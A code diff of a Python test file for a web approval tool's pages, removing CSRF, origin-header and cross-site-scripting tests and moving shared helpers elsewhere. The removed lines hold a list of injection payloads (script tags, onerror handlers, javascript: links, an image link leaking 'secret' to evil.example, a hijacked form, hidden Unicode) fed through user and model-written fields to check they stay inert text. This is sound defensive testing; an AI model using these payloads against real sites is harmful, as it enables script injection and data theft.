@@ -1,7 +1,6 @@
-"""What attackers try on the pages, by the names of the attacks: forged forms, scripts in texts, stale tabs, streams."""
+"""Attacks on the pages by the name of the attack: GETs that change state, ended sessions, stale tabs, streams."""
 
 import asyncio
-import json
 from collections.abc import AsyncIterator
 from pathlib import Path
 from urllib.parse import urlencode
@@ -12,159 +11,24 @@ from starlette.routing import Route
 
 from bot.core.card.review_links import PURPOSE, ReviewLink, sign_link
 from bot.core.events import Event, Unread
-from bot.core.people import ApproverClause, PeopleDirectory, Person
+from bot.core.people import ApproverClause, PeopleDirectory
 from bot.core.policy import Policy
-from bot.core.steps import ModelAnswer
 from bot.http import pages
 from bot.http.pages.timeline import ThreadTimeline
 from bot.http.sessions import SignInSessions
 from bot.settings import EnvironmentSettings
-from tests.http.http_client import ORIGIN, listening
-from tests.http.page_browser import FORM, FormBrowser, HtmlPage, PageClient
-from tests.platform_fixture import MANAGERS, MAX, OLIVE, PEOPLE, SAM, PlatformFixture, choose
+from tests.http.http_client import listening
+from tests.http.page_browser import HtmlPage
+from tests.http.page_case import PUSH, SCRIPTS, Case, assert_harmless, case_of, own
+from tests.platform_fixture import OLIVE, PEOPLE, PlatformFixture, choose
 
-PUSH = choose("push", "I push.", tag="v1.4.2", commit="f4b7f10")
 AGAIN = choose("push", "Then this one.", tag="v1.4.2", commit="0ddba11")
-
-EVIL = (
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "[Approve](javascript:alert(1))",
-    "![](https://evil.example/?q=secret)",
-    "<svg/onload=alert(1)>",
-    "</textarea><script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "{{ 7 * 7 }}{% include 'page.html' %}",
-    "<https://evil.example|Approve> <!channel> <@U123> ```",
-    "</main><form action=https://evil.example><button>Approve</button></form>",
-    "\u202eevorppa\u202c \u200bhidden\u2066",
-)
-ALL_EVIL = "\n".join(EVIL)
-
-
-class Case:
-    """A house with one open request, and Olive before her page of it."""
-
-    def __init__(self, desk: PageClient, id: str, olive: FormBrowser) -> None:
-        self.desk, self.id, self.olive = desk, id, olive
-        self.thread = id.rpartition("-")[0]
-        self.house = desk.house
-
-    @property
-    def action(self) -> str:
-        return f"/requests/{self.id}/decide"
-
-    @property
-    def fields(self) -> dict[str, str]:
-        form = next(form for form in self.olive.page.forms if form["action"] == self.action)
-        return {**form["fields"], "decision": "approve"}
-
-    async def is_untouched(self) -> bool:
-        request = await self.house.app.views.find_request(self.id)
-        return request.status == "pending" and request.votes == () and self.house.ledger.lines == []
-
-
-async def case_of(house: PlatformFixture) -> Case:
-    desk = PageClient(house)
-    await house.launch()
-    (request,) = await house.pending()
-    olive = await desk.sits("olive")
-    await olive.open(f"/requests/{request.id}")
-    return Case(desk, request.id, olive)
 
 
 @pytest.fixture
 async def case(tmp_path: Path) -> AsyncIterator[Case]:
     async with PlatformFixture(tmp_path, PUSH) as house:
         yield await case_of(house)
-
-
-@pytest.mark.parametrize("token", ["", "0" * 64, "é", None])
-async def test_web01_a_form_without_our_token_is_refused(case: Case, token: str | None) -> None:
-    fields = {name: value for name, value in case.fields.items() if name != "csrf"}
-    answer = await case.olive.post(case.action, fields if token is None else {**fields, "csrf": token})
-    assert answer.status_code == 403
-    assert "did not come from a page we showed you" in answer.text
-    assert await case.is_untouched()
-
-
-async def test_web01_another_sessions_token_is_refused(case: Case) -> None:
-    max = await case.desk.sits("max")
-    await max.open(f"/requests/{case.id}")
-    theirs = max.page.forms[0]["fields"]["csrf"]
-    assert (await case.olive.post(case.action, {**case.fields, "csrf": theirs})).status_code == 403
-    assert await case.is_untouched()
-
-
-@pytest.mark.parametrize(
-    "headers",
-    [
-        {"Origin": "https://evil.example"},
-        {"Origin": "null"},
-        {"Origin": "http://127.0.0.1:9999"},
-        {"Origin": "https://127.0.0.1:8080"},
-        {"Origin": "http://sub.127.0.0.1:8080"},
-        {"Sec-Fetch-Site": "cross-site"},
-        {"Sec-Fetch-Site": "same-site"},
-        {"Origin": "", "Sec-Fetch-Site": "cross-site"},
-    ],
-)
-async def test_web01_a_form_from_another_site_is_refused_even_with_the_token(
-    case: Case, headers: dict[str, str]
-) -> None:
-    assert (await case.olive.post(case.action, case.fields, **headers)).status_code == 403
-    assert await case.is_untouched()
-
-
-@pytest.mark.parametrize("headers", [{"Origin": ORIGIN}, {"Origin": "http://localhost:8080"}])
-async def test_web01_our_own_origins_pass(case: Case, headers: dict[str, str]) -> None:
-    assert (await case.olive.post(case.action, case.fields, **headers)).status_code == 303
-
-
-async def test_web01_without_any_such_header_the_token_must_do(case: Case) -> None:
-    action, fields = case.action, case.fields
-    assert (await case.olive.post(action, {**fields, "csrf": "0" * 64}, Origin="")).status_code == 403
-    assert (await case.olive.post(action, fields, Origin="")).status_code == 303
-
-
-async def test_web01_a_browser_that_sends_no_origin_says_same_origin(case: Case) -> None:
-    headers = {"Origin": "", "Sec-Fetch-Site": "same-origin"}
-    assert (await case.olive.post(case.action, case.fields, **headers)).status_code == 303
-
-
-@pytest.mark.parametrize("kind", ["text/plain", "application/json", "multipart/form-data; boundary=x", ""])
-async def test_web01_only_urlencoded_forms_are_read(case: Case, kind: str) -> None:
-    for body in (urlencode(case.fields), json.dumps(case.fields)):
-        headers = {"Origin": ORIGIN, "Content-Type": kind}
-        answer = await case.olive.client.post(case.action, content=body, headers=headers)
-        assert answer.status_code == 403
-    assert await case.is_untouched()
-
-
-async def test_web01_a_link_is_not_redeemed_by_another_sites_form(case: Case) -> None:
-    link = await case.desk.link("max")
-    browser = case.desk.browser()
-    await browser.open(link)
-    fields = browser.page.forms[0]["fields"]
-    assert (await browser.post(link, fields, Origin="https://evil.example")).status_code == 403
-    assert (await browser.post(link, {})).status_code == 403
-    assert (await browser.post(link, fields)).status_code == 303
-
-
-@pytest.mark.parametrize(
-    ("body", "status"),
-    [
-        ("csrf=a&csrf=b", 422),
-        ("a=%ff%fe", 422),
-        ("&".join(f"a{n}=1" for n in range(1_600)), 422),
-        ("a=" + "b" * 300_000, 413),
-    ],
-)
-async def test_a_form_that_cannot_be_read_is_refused(case: Case, body: str, status: int) -> None:
-    headers = {**FORM, "Origin": ORIGIN}
-    answer = await case.olive.client.post(case.action, content=body, headers=headers)
-    assert answer.status_code == status
-    assert await case.is_untouched()
 
 
 async def test_web02_no_get_changes_anything(case: Case) -> None:
@@ -221,90 +85,6 @@ async def test_web03_who_was_dismissed_decides_nothing(case: Case) -> None:
     case.desk.house.app.repository.directory = PeopleDirectory(people={**PEOPLE.people, "olive": gone})
     assert (await case.olive.post(case.action, case.fields)).status_code == 401
     assert await case.is_untouched()
-
-
-def evil_house(folder: Path) -> PlatformFixture:
-    people = [each.model_copy(update={"name": f"{each.name} <b>"[:80], "title": EVIL[1]}) for each in (SAM, OLIVE, MAX)]
-    mallory = Person(id="mallory", name=EVIL[0], groups=("managers",))
-    directory = PeopleDirectory(people={each.id: each for each in (*people, mallory)})
-    script: list[ModelAnswer | Exception] = [
-        choose("reply", EVIL[4], message=ALL_EVIL, go_on=True),
-        choose("push", ALL_EVIL, tag=ALL_EVIL, commit=EVIL[1]),
-        choose("ask_human", ALL_EVIL, question=ALL_EVIL, context=ALL_EVIL, urgency="high", format="multiple_choice",
-               choices=[EVIL[0], EVIL[1]]),
-        choose(EVIL[0]),
-        ModelAnswer(refusal=ALL_EVIL),
-        choose("done", message=ALL_EVIL),
-    ]  # fmt: skip
-    return PlatformFixture(
-        folder, *script, directory=directory, agent={"policy": MANAGERS.model_copy(update={"edits": True})}
-    )
-
-
-async def evil_pages(house: PlatformFixture) -> AsyncIterator[tuple[str, httpx2.Response]]:
-    """Every page of a house where every field holds scripts, in each state of its requests."""
-    desk = PageClient(house)
-    thread = await house.launch(ALL_EVIL, by="mallory")
-    olive = await desk.sits("olive")
-    link = await desk.link("mallory")
-    yield "sign-in", await olive.open(link + "?next=" + "/%22%3E%3Cscript%3E")
-    for _ in range(3):
-        for path in ("/", f"/threads/{thread}", f"/threads/{thread}/prompts/1", f"/threads/{thread}/prompts/2"):
-            yield path, await olive.open(path)
-        for request in (await house.app.views.list_requests()).items:
-            yield request.id, await olive.open(f"/requests/{request.id}")
-        for request in await house.pending():
-            if request.kind == "approval":
-                await house.decide(request, "reject", reason=ALL_EVIL)
-            else:
-                await house.answer(request, request.choices[0])
-            await house.settle()
-            break
-    await olive.open(f"/threads/{thread}")
-    yield "too late", await olive.submit(f"/threads/{thread}/fork", at=EVIL[0])
-    yield "not there", await olive.open("/requests/%3Cscript%3Ealert(1)%3E")
-    yield "not a link", await olive.open("/sign-in/%3Cscript%3E")
-
-
-async def test_web04_web05_llm13_whatever_anybody_writes_stays_text(tmp_path: Path) -> None:
-    async with evil_house(tmp_path) as house:
-        seen = 0
-        async for name, answer in evil_pages(house):
-            assert_harmless(name, answer.text)
-            seen += 1
-        assert seen > 15
-
-
-SCRIPTS = [f"/static/{name}.js" for name in ("guard", "words", "decide", "patch", "live")]
-
-
-def assert_harmless(name: str, html: str) -> None:
-    page = HtmlPage(html)
-    scripts = [found.get("src", "") for tag, found in page.elements if tag == "script"]
-    assert [each.partition("?v=")[0] for each in scripts] == SCRIPTS, name
-    for tag, found in page.elements:
-        assert tag not in {"svg", "iframe", "object", "embed", "base", "style", "b"}, (name, tag)
-        assert not any(key.startswith("on") or key == "style" for key in found), (name, found)
-        for key in ("href", "src", "action", "formaction"):
-            assert own(found.get(key, "/")), (name, found)
-    assert not set("\u202e\u202c\u200b\u2066") & set(html), name
-    assert html.count("</main>") == 1, name
-
-
-def own(url: str) -> bool:
-    return url.startswith("#") or (url.startswith("/") and not url.startswith("//"))
-
-
-async def test_web04_what_was_written_is_still_readable(tmp_path: Path) -> None:
-    async with evil_house(tmp_path) as house:
-        olive = await PageClient(house).sits("olive")
-        thread = await house.launch(ALL_EVIL, by="mallory")
-        await olive.open(f"/threads/{thread}")
-        text = "".join(olive.page.words)
-        for evil in EVIL[:-1]:
-            assert evil in text
-        assert "⟨U+202E⟩evorppa" in text
-        assert "contains unusual characters" in text
 
 
 async def test_web06_every_page_carries_the_headers_that_hold_a_browser(case: Case) -> None:
